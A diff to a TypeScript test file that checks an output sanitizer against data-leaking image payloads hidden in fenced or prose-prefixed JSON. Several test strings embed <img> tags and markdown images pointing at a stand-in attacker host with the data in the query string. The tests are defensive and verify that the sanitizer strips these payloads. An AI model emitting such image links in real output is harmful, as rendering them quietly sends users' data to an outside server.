@@ -152,6 +152,45 @@ describe('JSON channel: NaN / Infinity keep the reading on (finding 03), nested 
   });
 });
 
+// [name, text]: JSON after a prose prefix or inside a ```json fence is read as JSON too, as a client that strips
+// the fence or takes the first {…} parses it (finding 04)
+const EXTRACT = (s: string) =>
+  /```(?:json)?\s*([\s\S]*?)```/.exec(s)?.[1] ?? /(\{[\s\S]*\})/.exec(s)?.[1] ?? /(\[[\s\S]*\])/.exec(s)?.[1] ?? s;
+const WRAPPED: [string, string][] = [
+  ['a ```json fence, plain image', `\`\`\`json\n${JSON.stringify({ md: IMG })}\n\`\`\``],
+  [
+    'a ```json fence, escaped <img>',
+    `\`\`\`json\n{"md":"${U('<')}img src=https:\\/\\/evil.example\\/p.png?d=${DATA}${U('>')}"}\n\`\`\``,
+  ],
+  [
+    'a prose prefix, escaped <img>',
+    `Here is the JSON: {"md":"${U('<')}img src=https:\\/\\/evil.example\\/p.png?d=${DATA}${U('>')}"}`,
+  ],
+  [
+    'a prose prefix with a link, then JSON',
+    `See [docs](https://docs.example.com/x), "quoted": {"md":"${U('![x](')}https:\\/\\/evil.example\\/p.png?d=${DATA})"}`,
+  ],
+  ['a BOM first', `\ufeff{"md":"${U('<')}img src=https:\\/\\/evil.example\\/p.png?d=${DATA}${U('>')}"}`],
+];
+
+describe('JSON channel: JSON after prose or in a fence is read as JSON (finding 04)', () => {
+  for (const [name, text] of WRAPPED)
+    it(name, () => {
+      const out = served(text);
+      const values = strings(JSON.parse(EXTRACT(out)));
+      assert.ok(values.length > 0, out);
+      for (const v of values) assert.deepEqual(violations(v, ALLOWED), [], `${v}\n${out}`);
+    });
+
+  it('prose without JSON, and JSON followed by prose, are served as they came', () => {
+    for (const text of [
+      'Sure, here it is.\n\nNo JSON today: only words and a [1] note.',
+      '{"a":"b"} and then "words" x {y}',
+    ])
+      assert.equal(served(text), text);
+  });
+});
+
 describe('looksJson', () => {
   const cases: [string, boolean, boolean | undefined][] = [
     ['{"a":1}', false, true],
